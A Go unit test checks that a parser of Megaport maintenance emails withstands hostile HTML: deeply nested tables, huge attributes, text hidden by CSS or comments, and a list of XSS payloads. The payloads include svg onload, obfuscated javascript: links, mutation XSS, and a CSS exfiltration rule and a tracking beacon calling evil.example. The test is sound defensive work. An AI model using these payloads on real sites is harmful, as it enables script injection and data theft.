package provider

import (
	"strings"
	"testing"
)

// TestHostileHTML holds that markup which is made to do harm is text or
// nothing, that what is not shown is not read, and the limits of tables.
func TestHostileHTML(t *testing.T) {
	plain := megaportHTML("Planned maintenance (9001-1).", "Cards.", megaportTable+megaportTimes1)
	const tables = "error megaport/notice could not read maintenance_id; maintenance_id: read HTML: more than 20000 tables, or tables nested more than 200 deep: over the limit"
	const parsed = "parsed 9001-1 CONFIRMED 11T01:00-11T05:00 880011=OUTAGE"
	around := func(before, after string) func() string {
		return func() string { return mail(megaportFrom, megaportSubj, before+plain+after) }
	}
	many := func(s string, n int, after string) func() string {
		return func() string { return mail(megaportFrom, megaportSubj, strings.Repeat(s, n)+plain+after) }
	}
	otherTimes := strings.ReplaceAll(strings.ReplaceAll(megaportTimes1, "11 Mar", "18 Mar"), "05:00", "06:00")
	hidden := func(open, end string) func() string {
		return func() string { return mail(megaportFrom, megaportSubj, open+otherTimes+end+plain) }
	}
	mails := []hostileMail{
		{"harmless", around("", ""), parsed},
		{"100,000 nested div", many("<div>", 100_000, ""), parsed},
		{"100,000 nested div that end", many("<div>", 100_000, strings.Repeat("</div>", 100_000)), parsed},
		{"100,000 nested tables", many("<table>", 100_000, ""), tables},
		{"100,000 nested tables with cells", many("<table><tr><td>", 100_000, ""), tables},
		{"1e6 cells", func() string {
			return mail(megaportFrom, megaportSubj, plain+"<table><tr>"+strings.Repeat("<td>x", 1_000_000)+"</table>")
		}, "error megaport/notice could not read maintenance_id; maintenance_id: read HTML: more than 1000000 elements, 200000 lines or 16777216 bytes of text: over the limit"},
		{"1e5 cells in a row", around("", "<table><tr>"+strings.Repeat("<td>x", 100_000)+"</table>"), parsed},
		{"cells that span 1e9", around("", "<table><tr>"+strings.Repeat("<td colspan=1000000000 rowspan=1000000000>x", 10_000)+"</table>"), parsed},
		{"attribute of 20 MB", func() string {
			return mail(megaportFrom, megaportSubj, `<p title="`+strings.Repeat("x", 20<<20)+`">`+plain)
		}, parsed},
		{"attribute of 20 MB that never ends", func() string {
			return mail(megaportFrom, megaportSubj, plain+`<p title="`+strings.Repeat("x", 20<<20))
		}, parsed},
		{"comment that never ends, behind", around("", "<!-- "), parsed},
		{"comment that never ends, before", around("<!-- ", ""), "error megaport/notice found no notice"},
		{"1e6 comments that never end", func() string { return mail(megaportFrom, megaportSubj, plain+strings.Repeat("<!-", 1_000_000)) }, parsed},
		{"1e6 open tags", func() string { return mail(megaportFrom, megaportSubj, plain+strings.Repeat("<a ", 1_000_000)) }, parsed},
		{"1e6 open end tags", func() string { return mail(megaportFrom, megaportSubj, plain+strings.Repeat("</a ", 1_000_000)) }, parsed},
		{"1e6 entities", func() string {
			return mail(megaportFrom, megaportSubj, plain+strings.Repeat("&amp;&#x1F600;&", 300_000))
		}, parsed},
		{"hidden by display", hidden(`<div style="display:none">`, "</div>"), parsed},
		{"hidden by visibility", hidden(`<div style="visibility:hidden">`, "</div>"), parsed},
		{"hidden by opacity", hidden(`<div style="opacity:0">`, "</div>"), parsed},
		{"hidden white on white", hidden(`<div style="color:#ffffff">`, "</div>"), parsed},
		{"hidden white on its own white", hidden(`<div style="background:#fff;color:white">`, "</div>"), parsed},
		{"hidden in a template", hidden("<template>", "</template>"), parsed},
		{"hidden in a frame", hidden("<iframe>", "</iframe>"), parsed},
		{"hidden in a comment", hidden("<!--", "-->"), parsed},
		{"other times in sight", around("", otherTimes), "parsed 9001-1 CONFIRMED 11T01:00-11T05:00 18T01:00-18T06:00 880011=OUTAGE"},
	}
	for name, markup := range map[string]string{
		"svg onload":                `<svg onload=alert(1)><svg/onload=alert(1)>`,
		"img onerror":               `<img src=x onerror=alert(1)>`,
		"style import":              `<style>@import url(http://evil.example/a.css);</style>`,
		"base href":                 `<base href="http://evil.example/">`,
		"form action":               `<form action="http://evil.example/"><input name=a value="Start Date and Time: Wed, 18 Mar 2026 01:00:00 UTC"></form>`,
		"meta refresh":              `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
		"iframe srcdoc":             `<iframe srcdoc="<b>Start Date and Time: Wed, 18 Mar 2026 01:00:00 UTC</b>"></iframe>`,
		"javascript with a tab":     "<a href=\"java\tscript:alert(1)\"></a>",
		"javascript with entities":  `<a href="&#106;avascript&colon;alert(1)"></a>`,
		"mutation":                  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>`,
		"data:text/html":            `<a href="data:text/html,<script>alert(1)</script>"></a><object data="data:text/html;base64,PHNjcmlwdD4="></object>`,
		"CSS that tells":            `<style>input[value^="a"]{background:url(http://evil.example/a)}</style>`,
		"beacon":                    `<img src="http://evil.example/p.gif?id=1" width=1 height=1>`,
		"script":                    `<script>document.write("Start Date and Time: Wed, 18 Mar 2026 01:00:00 UTC")</script>`,
		"script that never ends up": `<script></script >`,
		"namespaces":                `<v:shape xmlns:v="urn:x"><o:p></o:p></v:shape><![if !mso]><![endif]>`,
		"NUL in a tag":              "<im\x00g src=x><\x00script></\x00script>",
	} {
		mails = append(mails, hostileMail{name, around(markup, ""), parsed}, hostileMail{name + ", behind", around("", markup), parsed})
	}
	runHostile(t, mails)
}
